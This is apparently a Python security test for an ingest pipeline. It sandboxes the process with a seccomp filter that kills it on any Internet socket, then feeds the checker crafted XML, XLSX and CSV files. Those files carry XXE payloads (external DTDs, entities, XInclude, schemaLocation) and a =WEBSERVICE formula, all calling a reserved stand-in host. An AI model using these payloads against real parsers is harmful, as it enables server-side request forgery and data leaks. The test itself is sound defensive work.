"""`python -m tests.trust.no_network FOLDER`: read every bad file of a folder, where the kernel ends
the process at the first socket to another machine.

What reads XML is a library in C, of which Python's own hooks hear nothing; the kernel does. In
place of a folder, OURS reads files of our own that would have somebody call elsewhere, and CONNECT
calls elsewhere itself, so that a test can see it end.
"""

from __future__ import annotations

import ctypes
import json
import platform
import socket
import struct
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

# Architecture -> how the kernel calls it, and the number of socket(2) there.
SOCKETS = {"x86_64": (0xC000003E, 41), "aarch64": (0xC00000B7, 198)}
CONNECT, OURS = "CONNECT", "OURS"
PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, FILTER = 38, 22, 2
LOAD, IF_EQUAL, RETURN = 0x20, 0x15, 0x06
ALLOW, KILL = 0x7FFF0000, 0x80000000
# Where these stand in what the filter is given.
NUMBER, ARCHITECTURE, FIRST_ARGUMENT = 0, 4, 16
ELSEWHERE = "http://192.0.2.1:9"
DOCTYPES = (
    f'<!DOCTYPE Message SYSTEM "{ELSEWHERE}/a.dtd">',
    f'<!DOCTYPE Message [<!ENTITY x SYSTEM "{ELSEWHERE}/a">]>',
    f'<!DOCTYPE Message [<!ENTITY % x SYSTEM "{ELSEWHERE}/a"> %x;]>',
    f'<?xml-stylesheet href="{ELSEWHERE}/a.xsl" type="text/xsl"?>',
)


class Filter(ctypes.Structure):
    """A program for the kernel: `struct sock_fprog`."""

    _fields_ = [("length", ctypes.c_ushort), ("steps", ctypes.c_void_p)]


def end_at_a_socket_to_elsewhere() -> None:
    """From here on the process is killed (SIGSYS) when it asks for a socket of the Internet."""
    architecture, number = SOCKETS[platform.machine()]
    # Each step: what, how far to jump if so, how far if not, with what.
    steps = [
        (LOAD, 0, 0, ARCHITECTURE),
        (IF_EQUAL, 0, 5, architecture),
        (LOAD, 0, 0, NUMBER),
        (IF_EQUAL, 0, 3, number),
        (LOAD, 0, 0, FIRST_ARGUMENT),
        (IF_EQUAL, 2, 0, socket.AF_INET),
        (IF_EQUAL, 1, 0, socket.AF_INET6),
        (RETURN, 0, 0, ALLOW),
        (RETURN, 0, 0, KILL),
    ]
    packed = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *step) for step in steps))
    program = Filter(len(steps), ctypes.addressof(packed))
    kernel = ctypes.CDLL(None, use_errno=True)
    for asked in (
        (PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0),
        (PR_SET_SECCOMP, FILTER, ctypes.byref(program), 0, 0),
    ):
        if kernel.prctl(*asked):
            raise OSError(ctypes.get_errno(), "the kernel takes no filter")


def ours() -> Iterator[Mapping[str, bytes]]:
    """Files that would have somebody call elsewhere."""
    from tests.ingest.files import census, child, workbook

    for doctype in DOCTYPES:
        head, rest = census(child()).split(b"?>", 1)
        yield {"cin.xml": head + b"?>" + doctype.encode() + rest}
        yield {"cin.xml": head + b"?>" + doctype.encode() + rest.replace(b"WBRI", b"&x;")}
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{ELSEWHERE}/a"/>'
    yield {"cin.xml": census(child(more=include))}
    schema = (
        f"xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='x {ELSEWHERE}'"
    )
    yield {"cin.xml": census(child()).replace(b"<Message>", f"<Message {schema}>".encode())}
    called = f'=WEBSERVICE("{ELSEWHERE}/a")'
    yield {"Header.xlsx": workbook({"Header": [["CHILD", "SEX", "DOB"], [called, "1", "x"]]})}
    yield {"Header.csv": f"CHILD,SEX,DOB\n{called},1,01/02/2010\n".encode()}


def theirs(folder: Path) -> Iterator[Mapping[str, bytes]]:
    """The recorded cases of that folder."""
    for case in json.loads((folder / "manifest.json").read_text())["cases"]:
        yield {file["upload_as"]: (folder / file["path"]).read_bytes() for file in case["files"]}


def main() -> int:
    """Read them all, and say how many there were."""
    from ingest.check import check
    from ingest.decide import Held
    from tests.ingest.files import sources

    end_at_a_socket_to_elsewhere()
    what, count = sys.argv[1], 0
    if what == CONNECT:
        socket.create_connection(("192.0.2.1", 9), timeout=1)
    for files in ours() if what == OURS else theirs(Path(what)):
        asked = {"authority": "999", "year": 2025, "holding": lambda _dataset, _year: Held()}
        check(sources(files), **asked)
        count += 1
    print(count)  # noqa: T201  what the test reads
    return 0


if __name__ == "__main__":
    sys.exit(main())
